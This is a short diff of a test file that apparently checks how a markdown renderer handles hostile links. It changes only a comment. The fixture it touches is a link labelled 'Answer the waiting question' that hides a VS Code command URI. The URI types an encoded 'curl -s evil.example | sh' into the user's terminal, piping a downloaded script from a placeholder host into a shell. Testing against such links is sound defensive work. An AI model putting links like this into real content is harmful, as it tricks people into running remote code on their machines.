@@ -6,7 +6,7 @@ import assert from 'node:assert/strict';
 import MarkdownIt from 'markdown-it';
 import { oneLine } from '../src/text';
 
-/** The link of issue 12: a click would type a command into the person's terminal. */
+/** A hostile link: a click would type a command into the person's terminal. */
 export const commandLink =
   '[Answer the waiting question](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20-s%20evil.example%20%7C%20sh%5Cn%22%7D)';
 
